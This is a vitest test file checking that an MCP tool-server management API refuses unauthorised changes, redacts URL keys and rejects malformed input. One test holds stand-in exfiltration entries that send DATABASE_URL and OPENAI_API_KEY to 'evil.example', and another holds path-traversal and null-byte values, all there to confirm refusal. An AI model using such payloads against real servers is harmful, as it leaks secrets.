import { beforeEach, expect, test } from "vitest";
import type { Role } from "#lib/people/role.ts";
import type { ToolsPage } from "#lib/policies/changes/tools-page.ts";
import { fakeTool } from "./fake-tool.ts";
import { routesWorld, type RoutesWorld } from "./routes-world.ts";
import { toolAudit } from "./tools-world.ts";

let world: RoutesWorld;
beforeEach(async () => {
  world = await routesWorld({ tools: [fakeTool("pay")] });
});

const send = (method: string, path: string, body?: object) =>
  world.call(method, path, { headers: world.asPerson(), ...(body && { body }) });

async function become(role: Role): Promise<void> {
  await world.database.db.updateTable("people").set({ role }).execute();
}

/** What is wrong with a request, as the app says it. */
async function refusal(response: Response): Promise<{ status: number; code: string; fields?: Record<string, string> }> {
  // Problems have one shape.
  return (await response.json()) as { status: number; code: string; fields?: Record<string, string> };
}

const digest = "0".repeat(64);
const changes: [method: string, path: string, body?: object][] = [
  ["POST", "/api/servers", { id: "mine", entry: { url: "https://mcp.example.com" } }],
  ["PUT", "/api/servers", { id: "mine", entry: { url: "https://mcp.example.com" } }],
  ["PATCH", "/api/servers", { id: "mine", trusted: true }],
  ["DELETE", "/api/servers?id=mine"],
  ["POST", "/api/servers/confirm", { id: "mine", digest }],
  ["POST", "/api/tools/review", { server: "mine", tools: [{ tool: "x", fingerprint: digest }] }],
  ["PUT", "/api/tools/settings", { server: "srv", tool: "pay", changes: { approval: "always" } }],
];

test.each(changes)("E11, H9: a member and a reviewer change nothing of tools: %s %s", async (method, path, body) => {
  for (const role of ["member", "reviewer"] as const) {
    await become(role);
    expect(await refusal(await send(method, path, body))).toMatchObject({ status: 403, code: "forbidden" });
  }
  expect(await toolAudit(world.database)).toEqual([]);
});

test("E11: an admin adds no program, and loosens no tool", async () => {
  await become("admin");
  const program = { id: "mine", entry: { command: "node", args: ["-e", "0"] } };
  expect(await refusal(await send("POST", "/api/servers", program))).toMatchObject({ status: 403 });
  const loosen = { server: "srv", tool: "pay", changes: { approval: "never" } };
  expect(await refusal(await send("PUT", "/api/tools/settings", loosen))).toMatchObject({ status: 403 });
  const web = { id: "web", entry: { url: "https://mcp.example.com/mcp" } };
  expect((await send("POST", "/api/servers", web)).status).toBe(200);
  expect((await toolAudit(world.database)).map(({ kind }) => kind)).toEqual(["server-added"]);
});

test("E11, H3: an admin sends nothing of the app's environment, and nothing that was given for one address, to another", async () => {
  const given = { Authorization: "Bearer t0ken-of-the-owner" };
  await send("POST", "/api/servers", { id: "web", entry: { url: "https://mcp.example.com/mcp", headers: given } });
  await become("admin");
  for (const entry of [
    { url: "https://evil.example/${DATABASE_URL:-none}" },
    { url: "https://evil.example", headers: { A: "${OPENAI_API_KEY:-none}" } },
  ]) {
    expect(await refusal(await send("POST", "/api/servers", { id: "evil", entry }))).toMatchObject({ status: 403 });
    expect(await refusal(await send("PUT", "/api/servers", { id: "web", entry }))).toMatchObject({ status: 403 });
  }
  const headersOf = async (url: string) => {
    const page = (await (await send("PUT", "/api/servers", { id: "web", entry: { url } })).json()) as ToolsPage;
    const transport = page.servers.find(({ id }) => id === "web")?.transport;
    return transport?.kind === "address" ? transport.headers : null;
  };
  expect(await headersOf("https://mcp.example.com/other")).toEqual(["Authorization"]);
  expect(await headersOf("https://evil.example/mcp")).toEqual([]);
});

test("S0.7: over HTTP too, what lowers protection is said first, and done when the sentence comes back", async () => {
  const lower = { server: "srv", tool: "pay", changes: { approval: "never" } };
  const asked = await refusal(await send("PUT", "/api/tools/settings", lower));
  const confirm = "Calls of pay run without asking anybody, unless a policy asks or refuses.";
  expect(asked).toMatchObject({ status: 409, code: "conflict", fields: { confirm } });
  const done = await send("PUT", "/api/tools/settings", { ...lower, confirm });
  const page = (await done.json()) as ToolsPage;
  expect(page.servers.find(({ id }) => id === "srv")?.tools[0]?.approval).toMatchObject({ set: "never" });
});

test("whole addresses are for those who manage tools; a key of a program changes nothing", async () => {
  await send("POST", "/api/servers", { id: "web", entry: { url: "https://mcp.example.com/mcp?key=abc" } });
  await become("member");
  const text = await (await send("GET", "/api/tools")).text();
  expect(text).toContain("https://mcp.example.com");
  expect(text).not.toContain("key=abc");
  await become("owner");
  const headers = await world.asProgram("approvals:read", "approvals:decide");
  for (const [method, path, body] of changes) {
    const { status } = await world.call(method, path, { headers, ...(body && { body }) });
    expect([401, 403], `${method} ${path}`).toContain(status);
  }
});

test.each([
  ["PUT", "/api/tools/settings", { server: "srv", tool: "pay", changes: { approval: "sometimes" } }],
  ["PUT", "/api/tools/settings", { server: "srv", tool: "pay", changes: { risk: 3 } }],
  ["PUT", "/api/tools/settings", { server: "srv", tool: "pay", changes: { timeoutMs: 1 } }],
  ["PUT", "/api/tools/settings", { server: "srv", tool: "pay", changes: { who: { quorum: 2 } } }],
  ["PUT", "/api/tools/settings", { server: "srv", tool: "pay", changes: { aproval: "always" } }],
  ["POST", "/api/servers", { id: "../x", entry: { url: "https://a" } }],
  ["POST", "/api/servers", { id: "x", entry: { url: "https://a", tools: {} } }],
  ["POST", "/api/servers", { id: "app", entry: { url: "https://a" } }],
  ["POST", "/api/servers", { id: "x", entry: { command: "a\0b" } }],
  ["POST", "/api/servers", { id: "x", entry: { command: "node", url: "https://a" } }],
  ["POST", "/api/servers/confirm", { id: "nobody", digest }],
  ["POST", "/api/tools/review", { server: "srv", tools: [{ tool: "pay", fingerprint: digest }] }],
  ["PUT", "/api/tools/settings", { server: "srv", tool: "nothing", changes: { approval: "always" } }],
  ["DELETE", "/api/servers", undefined],
])("what does not fit is refused with a sentence and changes nothing: %s %s %j", async (method, path, body) => {
  const before = await (await send("GET", "/api/tools")).text();
  const response = await send(method, path, body);
  expect(response.status).toBeGreaterThanOrEqual(400);
  expect(response.status).toBeLessThan(500);
  expect(await (await send("GET", "/api/tools")).text()).toBe(before);
  expect(await toolAudit(world.database)).toEqual([]);
});
